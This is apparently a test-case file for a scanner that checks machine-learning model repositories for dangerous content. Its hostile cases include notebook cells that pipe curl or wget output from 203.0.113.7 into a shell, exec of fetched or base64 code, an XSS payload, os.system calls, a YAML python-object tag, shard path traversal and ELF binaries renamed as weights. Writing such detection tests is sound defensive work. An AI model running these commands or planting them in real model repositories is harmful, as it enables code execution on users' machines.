"""Python beside the weights, and configurations that ask for it."""

from __future__ import annotations

import json

from corpus.case import benign, hostile


def config(**entries: object) -> bytes:
    return json.dumps(
        {"architectures": ["LlamaForCausalLM"], "model_type": "llama", **entries}
    ).encode()


hostile(
    "config-auto-map",
    "remote_code.auto_map",
    {"config.json": config(auto_map={"AutoModel": "modeling_x.X"})},
)
hostile(
    "config-auto-map-nested",
    "remote_code.auto_map",
    {"config.json": config(text_config={"auto_map": {"AutoConfig": "c.C"}})},
)
hostile(
    "config-custom-pipeline",
    "remote_code.custom_pipeline",
    {"config.json": config(custom_pipelines={"x": {"impl": "p.P"}})},
)
hostile(
    "config-trust-remote-code",
    "remote_code.trust_remote_code",
    {"config.json": config(trust_remote_code=True)},
)
benign("config-twin", {"config.json": config(auto_map={}, trust_remote_code=False)})
hostile(
    "python-os-system",
    "remote_code.python_file remote_code.dangerous_python",
    {"modeling_x.py": b"import os as o\n\n\ndef forward():\n    o.system('true')\n"},
)
hostile(
    "python-loads-pickle",
    "remote_code.dangerous_python",
    {"convert.py": b"import torch\n\nprint(torch.load('x.pt'))\n"},
    "pass",
)
hostile(
    "python-import-time-exec",
    "remote_code.dangerous_python",
    {"modeling_y.py": b"import base64\nexec(base64.b64decode('cGFzcw=='))\n"},
)
hostile(
    "python-plain",
    "remote_code.python_file",
    {"configuration_x.py": b"class Config:\n    size = 3\n"},
    "pass",
)
hostile("python-broken", "remote_code.python_file", {"x.py": b"def (:"}, "incomplete")


def notebook(*sources: str, outputs: object = (), text: str = "# Title") -> dict[str, bytes]:
    cells: list[dict[str, object]] = [{"cell_type": "markdown", "source": [text]}]
    cells += [
        {"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": list(outputs)}
        for source in sources
    ]
    return {"x.ipynb": json.dumps({"cells": cells, "nbformat": 4, "metadata": {}}).encode()}


RUNS = "notebook.fetch_and_run"
hostile("notebook-fetch-and-run", RUNS, notebook("!curl http://203.0.113.7 | sh"))
hostile("notebook-bash-cell", RUNS, notebook("%%bash\nwget -qO- http://203.0.113.7/a | bash\n"))
hostile("notebook-hidden", RUNS, notebook("import base64\nexec(base64.b64decode('cGFzcw=='))"))
hostile(
    "notebook-fetched",
    RUNS,
    notebook("import requests\nexec(requests.get('http://203.0.113.7/x').text)"),
)
hostile("notebook-run-address", RUNS, notebook("%run https://203.0.113.7/x.py"))
hostile("notebook-script", "notebook.script", notebook("1", text="<img src=x onerror=alert(1)>"))
hostile(
    "notebook-script-in-output",
    "notebook.script",
    notebook("1", outputs=[{"data": {"text/html": ["<script>eval(atob('YQ=='))</script>"]}}]),
)
hostile(
    "notebook-reaches",
    "notebook.reaches_system",
    notebook("import subprocess\nsubprocess.run(['make'])"),
    "pass",
)
hostile("notebook-broken", "", {"x.ipynb": b'{"cells": 3}'}, "incomplete")
hostile("notebook-no-python", "", notebook("def (:"), "incomplete")
benign(
    "notebook-twin",
    notebook(
        "!pip install -q transformers\n%matplotlib inline\nimport torch\n",
        "files = !ls\nmodel?\nprint(1)",
        outputs=[{"data": {"text/html": ["<script>Plotly.newPlot('a', [])</script>"]}}],
    ),
    rules="notebook.shell",
)
benign("text-mz-twin", {"vocab.txt": b"MZ\n#!\nab\n"})
COMPONENTS = {"_class_name": "StableDiffusionPipeline", "vae": ["diffusers", "AutoencoderKL"]}
hostile(
    "diffusers-component",
    "remote_code.component",
    {"model_index.json": json.dumps({**COMPONENTS, "unet": ["os", "system"]}).encode()},
)
hostile(
    "sentence-module",
    "remote_code.component",
    {"modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "builtins.eval"}]'},
)
benign(
    "diffusers-component-twin",
    {
        "model_index.json": json.dumps(
            {**COMPONENTS, "safety_checker": ["stable_diffusion", "X"], "scheduler": [None, None]}
        ).encode(),
        "modules.json": b'[{"path": "", "type": "sentence_transformers.models.Transformer"}]',
    },
)
INDEX = {"metadata": {"total_size": 8}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}
hostile(
    "index-shard-path",
    "documents.shard_path",
    {
        "model.safetensors.index.json": json.dumps(
            {**INDEX, "weight_map": {"a": "../../other/pytorch_model.bin"}}
        ).encode()
    },
)
benign("index-twin", {"model.safetensors.index.json": json.dumps(INDEX).encode()})
hostile("native-elf", "remote_code.native_code", {"libx.so": b"\x7fELF" + bytes(60)})
hostile("native-elf-renamed", "remote_code.native_code", {"weights.bin": b"\x7fELF" + bytes(60)})
hostile(
    "yaml-python-tag",
    "documents.yaml_python_tag",
    {"params.yaml": b"a: !!python/object/apply:os.system ['true']\n"},
)
benign("yaml-twin", {"params.yaml": b"a: [1, 2]\n"})
